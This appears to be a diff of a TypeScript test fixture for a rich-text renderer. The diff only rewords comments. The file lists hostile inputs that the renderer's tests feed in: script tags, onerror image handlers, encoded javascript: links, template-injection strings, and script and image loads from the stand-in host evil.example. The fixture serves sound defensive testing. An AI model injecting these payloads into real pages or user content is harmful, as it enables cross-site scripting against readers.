@@ -1,7 +1,6 @@
 /**
- * What somebody might write into a text to have it run in a reader's browser, or fetch from another host. Whatever runs
- * sets `window.pwned`; whatever fetches does so from evil.example. Both renderers are given every one, by
- * tests/ui/rich-text/attacks.test.tsx and, in a browser, by playwright/rich-text.spec.ts.
+ * Texts that try to run a script or to load something from another host. A script sets `window.pwned`, and a request goes
+ * to evil.example. Used by tests/ui/rich-text/attacks.test.tsx and playwright/desktop-only/rich-text.spec.ts.
  */
 
 /** Addresses that must never become a link or a picture. */
@@ -92,7 +91,7 @@ export const HOSTILE_ADDRESSES: readonly string[] = [
   "//evil.example\\@club.test/x.png",
 ];
 
-/** Addresses that are hostile once Markdown has read the entities in them; as they stand they are paths. */
+/** Addresses that are hostile after Markdown has decoded their entities. Without decoding they are paths. */
 export const ENCODED_ADDRESSES: readonly string[] = [
   "javascript&colon;pwned=1",
   "javascript&#58;pwned=1",
@@ -107,7 +106,7 @@ export const ENCODED_ADDRESSES: readonly string[] = [
   "&#47;&#47;evil.example/x.png",
 ];
 
-/** They look like attacks, but a browser reads each as a path of the page's own host. */
+/** Look like attacks, but a browser resolves each to a path of the page's own host. */
 export const OWN_PATHS: readonly string[] = [
   "/redirect?to=javascript:pwned=1",
   "?x=javascript:pwned=1",
@@ -124,7 +123,7 @@ export const OWN_PATHS: readonly string[] = [
   "/@evil.example/x.png",
 ];
 
-/** Texts as a member or an editor may write them. */
+/** Texts that a member or an editor may write. */
 export const HOSTILE_TEXTS: readonly string[] = [
   "<script>pwned=1</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
@@ -229,7 +228,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "[^1]\n\n[^1]: <img src=x onerror=pwned=1>",
   "| x |\n|---|\n| <img src=x onerror=pwned=1> |",
   "{{constructor.constructor('pwned=1')()}}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a literal text
   "${pwned=1}",
   "<%= pwned=1 %>",
   "__proto__ constructor toString",
@@ -249,7 +248,7 @@ const linked = (markDef: object) =>
   block({ children: [span("x", "m")], markDefs: [{ _key: "m", ...markDef }] });
 const picture = (more: object) => ({ _type: "image", _key: "p", width: 800, height: 600, alt: "x", ...more });
 
-/** Portable Text that no editor writes, but that an API may hold. */
+/** Portable Text that no editor can write, but that the API may return. */
 export const HOSTILE_BLOCKS: readonly (readonly [name: string, value: unknown])[] = [
   ["nothing", undefined],
   ["a text instead of blocks", "<img src=x onerror=pwned=1>"],
@@ -323,11 +322,11 @@ export const HOSTILE_BLOCKS: readonly (readonly [name: string, value: unknown])[
   ["a picture without a size", [picture({ url: "/x.png", width: "100%", height: Number.NaN })]],
   ["a picture without an end", [picture({ url: "/x.png", width: 1e12, height: 1 })]],
   [
-    "a colour that is a picture of another host",
+    "a color that is a picture of another host",
     [picture({ url: "/x.png", palette: { background: "url(https://evil.example/x.png)" } })],
   ],
   [
-    "a colour that breaks out",
+    "a color that breaks out",
     [
       picture({
         url: "/x.png",
